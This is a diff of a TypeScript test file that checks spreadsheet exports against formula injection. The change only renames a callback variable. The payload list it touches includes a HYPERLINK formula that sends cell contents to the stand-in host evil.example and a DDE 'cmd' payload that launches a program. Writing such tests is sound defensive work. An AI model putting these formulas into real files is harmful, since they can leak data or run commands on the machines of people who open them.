@@ -9,12 +9,12 @@ import { newCustomer } from '#server/test/support/new-records.ts'
 /** Sixty texts that somebody might put into a name, so that it does something when the file is opened. */
 const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
 const payloads = [
-  ...starts.map((one) => `${one}1+1`),
-  ...starts.map((one) => `${one}HYPERLINK("http://evil.example/?"&A1,"点我")`),
-  ...starts.map((one) => ` ${one}cmd|'/C calc'!A0`),
-  ...starts.map((one) => `\t${one}SUM(A1:A9)`),
-  ...starts.map((one) => `\r\n${one}1`),
-  ...starts.map((one) => `\ufeff${one}1`),
+  ...starts.map((name) => `${name}1+1`),
+  ...starts.map((name) => `${name}HYPERLINK("http://evil.example/?"&A1,"点我")`),
+  ...starts.map((name) => ` ${name}cmd|'/C calc'!A0`),
+  ...starts.map((name) => `\t${name}SUM(A1:A9)`),
+  ...starts.map((name) => `\r\n${name}1`),
+  ...starts.map((name) => `\ufeff${name}1`),
   "'=1+1",
   '"=1+1',
   '","=1+1","',
@@ -179,7 +179,7 @@ function expectNothingLost(resource: Exportable, columns: Map<string, Set<string
     const texts = [...(columns.get(name) ?? [])].map((text) =>
       text.replaceAll('\\"', '"').replaceAll('\\r\\n', '\r\n').replaceAll('\\t', '\t'),
     )
-    for (const payload of payloads.filter((one) => !/[\\\ufffe]/.test(one) && !one.includes('\u0001')))
+    for (const payload of payloads.filter((value) => !/[\\\ufffe]/.test(value) && !value.includes('\u0001')))
       expect(
         texts.some((text) => text.includes(payload)),
         `${resource}.${name} ${JSON.stringify(payload)}`,
